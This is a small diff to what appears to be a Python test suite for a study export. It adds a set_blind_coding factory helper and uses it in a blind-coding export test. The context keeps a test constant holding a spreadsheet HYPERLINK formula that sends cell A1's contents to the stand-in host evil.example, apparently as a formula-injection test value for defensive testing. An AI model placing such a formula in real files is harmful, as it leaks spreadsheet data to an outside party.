@@ -53,6 +53,7 @@ from tests.factories import (
     make_session,
     make_transcript,
     make_user,
+    set_blind_coding,
 )
 
 EVIL_COMPANY = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
@@ -547,8 +548,7 @@ def test_the_research_team_gets_pseudonyms_by_default(
 def test_blind_coding_exports_only_the_researchers_own_quotes(
     researcher_client: Client, study: Study
 ) -> None:
-    study.project.blind_coding = True
-    study.project.save()
+    set_blind_coding(study.project)
     book = workbook(download(researcher_client, export_url(study)))
     assert as_dicts(book, "Quotes") == []
 
